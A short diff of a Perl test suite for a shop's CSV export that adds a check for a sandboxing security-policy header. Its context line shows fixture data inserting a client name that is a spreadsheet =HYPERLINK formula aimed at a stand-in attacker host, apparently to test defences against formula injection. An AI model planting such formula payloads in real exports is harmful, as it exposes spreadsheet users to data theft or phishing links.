@@ -51,6 +51,7 @@ sql(q{INSERT INTO shop.client (name, phone) VALUES ('=HYPERLINK("http://evil.exa
 my $page = export('products');
 is $page->header('Content-Type'), 'text/csv; charset=utf-8', 'a table is CSV';
 like $page->header('Content-Disposition'), qr/^attachment; filename="products\.csv"$/, '... to be stored';
+like $page->header('Content-Security-Policy'), qr/; sandbox$/, '... in a box if it is opened';
 like $page->header('Cache-Control'), qr/no-store/, '... and nowhere else';
 like $page->{body}, qr/^\x{FEFF}Nom;Rayon;Fournisseur;Prix;/, '... with a head, in UTF-8 that spreadsheets notice';
 is scalar(split /\r\n/, $page->{body}), 1 + sql('SELECT count(*) FROM shop.product WHERE active'), '... and a line for each product';
